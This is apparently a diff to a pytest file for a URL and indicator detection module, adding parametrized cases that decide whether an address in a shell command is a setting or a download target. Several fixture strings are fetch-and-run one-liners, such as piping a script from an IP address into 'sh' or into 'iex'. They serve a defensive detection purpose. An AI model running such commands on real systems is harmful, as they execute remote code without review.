@@ -2,7 +2,14 @@
 
 import pytest
 
-from app.detection.indicators import defang, find_unc_paths, find_urls, parse_ip, parse_url
+from app.detection.indicators import (
+    defang,
+    find_unc_paths,
+    find_urls,
+    is_argument_url,
+    parse_ip,
+    parse_url,
+)
 
 
 def test_userinfo_is_separated_from_the_real_host() -> None:
@@ -107,3 +114,21 @@ def test_defang_brackets_bare_hosts_on_the_cheap_domains_lures_use() -> None:
 
 def test_defang_brackets_bare_host_names() -> None:
     assert defang("irm get.scoop.sh | iex") == "irm get[.]scoop[.]sh | iex"
+
+
+@pytest.mark.parametrize(
+    ("text", "argument"),
+    [
+        ("curl -x http://proxy.corp.example:3128 https://get.vendor.dev", True),
+        ("export HTTPS_PROXY=http://proxy.corp.example:3128", True),
+        # a variable that holds the address and is used later stages the download
+        ('URL=https://get.vendor.dev/install.sh && curl -fsSO "$URL" && bash install.sh', False),
+        ("u=http://203.0.113.9/x.sh; curl -s ${u} | sh", False),
+        ("$u='https://get.vendor.dev/i.ps1'; irm $u | iex", False),
+        # ...and one that is never used is a setting
+        ("BASE_URL=https://api.vendor.dev npm start", True),
+    ],
+)
+def test_an_address_is_a_setting_unless_its_variable_is_used(text: str, argument: bool) -> None:
+    url = find_urls(text)[0]
+    assert is_argument_url(text, url) is argument, (text, url.raw)
